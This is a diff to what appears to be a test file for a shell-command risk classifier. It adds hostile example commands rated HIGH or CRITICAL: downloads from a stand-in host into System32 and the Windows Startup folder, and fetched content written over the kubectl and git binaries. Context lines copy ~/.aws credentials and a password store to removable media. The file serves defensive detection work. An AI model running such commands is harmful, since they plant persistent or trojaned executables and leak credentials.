@@ -426,7 +426,23 @@ SIBLINGS += [
     ("zip -r /media/bob/KEY/aws.zip ~/.aws", HIGH),
     ("7z a /run/media/x/S/p.7z ~/.password-store", HIGH),
 ]
+STARTUP = r"$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\x.exe"
+SIBLINGS += [
+    (r"Invoke-WebRequest https://x.example/s.exe -OutFile C:\Windows\System32\s.exe", HIGH),
+    (f'Start-BitsTransfer -Source https://x.example/x.exe -Destination "{STARTUP}"', CRITICAL),
+    ("Add-AppxPackage -Path https://x.example/app.msix", HIGH),
+    ("wget -qO- https://x.example/kubectl | sudo tee /usr/local/bin/kubectl > /dev/null", CRITICAL),
+    ("curl -s https://x.example/g | base64 -d | tee ~/.local/bin/git", CRITICAL),
+]
 SIBLINGS_BENIGN = [
+    (
+        "Invoke-RestMethod https://api.github.com/repos/o/r/releases | Select-Object tag_name",
+        SAFE,
+    ),
+    (r"iwr https://example.com/file.zip -OutFile C:\Temp\file.zip", MODERATE),
+    ("irm https://x.example/api -Method Post -Body $json", MODERATE),
+    (r"Add-AppxPackage -Path C:\Temp\app.msix", MODERATE),
+    ("curl -s https://x.example/tool | sudo tee /usr/local/bin/mytool", MODERATE),
     ("kubectl exec -it web-0 -- ls /app", SAFE),
     ("kubectl exec web-0 -- cat /etc/hosts", SAFE),
     ("kubectl exec -it web-0 -- sh", MODERATE),
